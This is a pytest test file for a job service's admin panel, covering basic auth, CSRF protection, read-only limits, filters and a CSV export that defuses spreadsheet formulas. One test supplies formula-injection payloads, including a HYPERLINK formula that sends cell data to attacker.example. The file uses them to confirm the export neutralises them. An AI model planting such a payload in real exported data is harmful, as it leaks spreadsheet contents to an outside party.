"""The admin at /admin/ without a browser: its guard, its CSRF tokens, and what it cannot change."""

from __future__ import annotations

import base64
import csv
import io
import re

import pytest

from jobsvc.core.models import Job
from jobsvc.web.admin import JobAdmin
from tests.conftest import fresh_app
from tests.support import submit

OUTSIDER = {"REMOTE_ADDR": "203.0.113.7"}
OPERATOR = {"Authorization": "Basic " + base64.b64encode(b"admin:s3cret").decode()}
# What a browser sends with a form posted from the admin's own page (the guard checks it).
SAME_ORIGIN = {"Origin": "http://localhost"}


@pytest.fixture
def locked(stack_env, tmp_path):
    """An app with ADMIN_PASSWORD set, on an empty database and a queue nobody listens on."""
    env = {**stack_env, "DATABASE_URL": f"sqlite:///{tmp_path}/a.sqlite3", "QUEUE_NAME": "unattended"}
    return fresh_app({**env, "ADMIN_PASSWORD": "s3cret"}).test_client()


@pytest.fixture
def open_admin(stack_env, tmp_path):
    """An app without ADMIN_PASSWORD."""
    env = {**stack_env, "DATABASE_URL": f"sqlite:///{tmp_path}/o.sqlite3", "QUEUE_NAME": "unattended"}
    return fresh_app(env).test_client()


def csrf_token(page: str) -> str:
    match = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page)
    assert match, "no CSRF token in the page"
    return match.group(1)


@pytest.mark.parametrize(
    "path", ["/admin/", "/admin/jobs/", "/admin/jobs/export/csv/", "/admin/static/admin/js/actions.js"]
)
def test_with_a_password_the_admin_needs_basic_auth_like_rq(locked, path):
    refused = locked.get(path, environ_base=OUTSIDER)

    assert refused.status_code == 401
    assert refused.headers["WWW-Authenticate"].startswith("Basic")
    assert locked.get(path, headers=OPERATOR, environ_base=OUTSIDER).status_code in {200, 302}


def test_without_a_password_the_admin_is_refused_like_rq_outside_the_zero_configuration_run(open_admin):
    # This app has a TCP Redis, so it is not the zero-configuration `make run`.
    for path in ("/admin/jobs/", "/rq/"):
        response = open_admin.get(path)
        assert response.status_code == 403, path
        assert "ADMIN_PASSWORD" in response.get_json()["message"]


def test_a_bulk_action_without_its_csrf_token_changes_nothing(locked):
    event_id = submit(locked, "Wear a hairnet.")

    locked.post("/admin/jobs/action/", data={"action": "cancel", "rowid": event_id}, headers=OPERATOR)

    assert locked.get(f"/jobs/{event_id}/").get_json()["status"] == "pending"


def test_a_bulk_cancel_with_its_token_cancels_through_the_service(locked):
    event_id = submit(locked, "Wear a hairnet.")
    token = csrf_token(locked.get("/admin/jobs/", headers=OPERATOR).get_data(as_text=True))

    response = locked.post(
        "/admin/jobs/action/",
        data={"action": "cancel", "rowid": event_id, "csrf_token": token},
        headers={**OPERATOR, **SAME_ORIGIN},
    )

    assert response.status_code == 302
    assert locked.get(f"/jobs/{event_id}/").get_json()["status"] == "canceled"


def test_the_detail_view_shows_every_field(locked):
    event_id = submit(locked, "Wear a hairnet.")

    page = locked.get(f"/admin/jobs/details/?id={event_id}", headers=OPERATOR).get_data(as_text=True)

    for column in Job.__table__.columns:
        label = JobAdmin.column_labels.get(column.key, column.key.replace("_", " ").title())
        assert f"<b>{label}</b>" in page, label
    assert event_id in page and "Wear a hairnet." in page


@pytest.mark.parametrize("path", ["/admin/jobs/new/", "/admin/jobs/edit/?id={id}"])
def test_jobs_cannot_be_created_or_edited_from_the_admin(locked, path):
    event_id = submit(locked, "Wear a hairnet.")

    response = locked.get(path.format(id=event_id), headers=OPERATOR)

    assert response.status_code in {302, 403, 404}
    assert "<form" not in response.get_data(as_text=True) or "input_text" not in response.get_data(
        as_text=True
    )


def test_jobs_cannot_be_deleted_from_the_admin(locked):
    event_id = submit(locked, "Wear a hairnet.")
    token = csrf_token(locked.get("/admin/jobs/", headers=OPERATOR).get_data(as_text=True))

    locked.post("/admin/jobs/delete/", data={"id": event_id, "csrf_token": token}, headers=OPERATOR)

    assert locked.get(f"/jobs/{event_id}/").status_code == 200


def listed_ids(client, query: str) -> set[str]:
    page = client.get(f"/admin/jobs/?{query}", headers=OPERATOR)
    assert page.status_code == 200, page.get_data(as_text=True)[-500:]
    return set(re.findall(r'name="rowid"[^>]*value="([0-9a-f-]{36})"', page.get_data(as_text=True)))


def test_the_list_filters_by_created_range_in_utc(locked):
    event_id = submit(locked, "Wear a hairnet.")
    around_now = "flt0_1=2000-01-01+00:00:00+to+2999-12-31+23:59:59"
    long_ago = "flt0_1=2000-01-01+00:00:00+to+2000-12-31+23:59:59"

    assert event_id in listed_ids(locked, around_now)
    assert event_id not in listed_ids(locked, long_ago)


def test_the_list_searches_the_input_text_and_filters_by_status(locked):
    hairnet = submit(locked, "Wear a hairnet in the kitchen.")
    gloves = submit(locked, "Wear gloves in the garden.")
    locked.post(f"/jobs/{gloves}/cancel")

    assert listed_ids(locked, "search=hairnet") == {hairnet}
    assert listed_ids(locked, "flt0_0=canceled") == {gloves}


def exported(client) -> list[dict[str, str]]:
    """The admin's CSV export, as rows by column title."""
    response = client.get("/admin/jobs/export/csv/", headers=OPERATOR)
    assert response.status_code == 200, response.get_data(as_text=True)[-500:]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://attacker.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
)
def test_the_csv_export_defuses_a_formula_in_tenant_text(locked, text):
    event_id = submit(locked, text)

    row = next(row for row in exported(locked) if row["Event id"] == event_id)

    assert row["Input text"] == "'" + text


def test_the_csv_export_leaves_ordinary_text_alone(locked):
    event_id = submit(locked, "Wear a hairnet; 2 - 1 = 1.")

    row = next(row for row in exported(locked) if row["Event id"] == event_id)

    assert row["Input text"] == "Wear a hairnet; 2 - 1 = 1."


@pytest.fixture
def tenants(stack_env, tmp_path):
    """An app with two named API keys and ADMIN_PASSWORD, on an empty database."""
    env = {**stack_env, "DATABASE_URL": f"sqlite:///{tmp_path}/t.sqlite3", "QUEUE_NAME": "unattended"}
    return fresh_app({**env, "ADMIN_PASSWORD": "s3cret", "API_KEYS": "shop:sk-shop,crm:sk-crm"}).test_client()


def submit_as(client, key: str, text: str) -> str:
    response = client.post("/jobs/", json={"input_text": text}, headers={"Authorization": f"Bearer {key}"})
    assert response.status_code == 201, response.get_json()
    return response.get_json()["event_id"]


def test_the_admin_lists_filters_and_exports_each_jobs_owner(tenants):
    shop = submit_as(tenants, "sk-shop", "Wear a hairnet.")
    crm = submit_as(tenants, "sk-crm", "Wear gloves.")
    page = tenants.get("/admin/jobs/", headers=OPERATOR).get_data(as_text=True)
    by_owner = next(n for n, f in enumerate(JobAdmin.column_filters) if f.name == "Owner (API key)")

    assert "Owner (API key)" in page
    assert listed_ids(tenants, f"flt0_{by_owner}=shop") == {shop}
    owners = {row["Event id"]: row["Owner (API key)"] for row in exported(tenants)}
    assert owners == {shop: "shop", crm: "crm"}
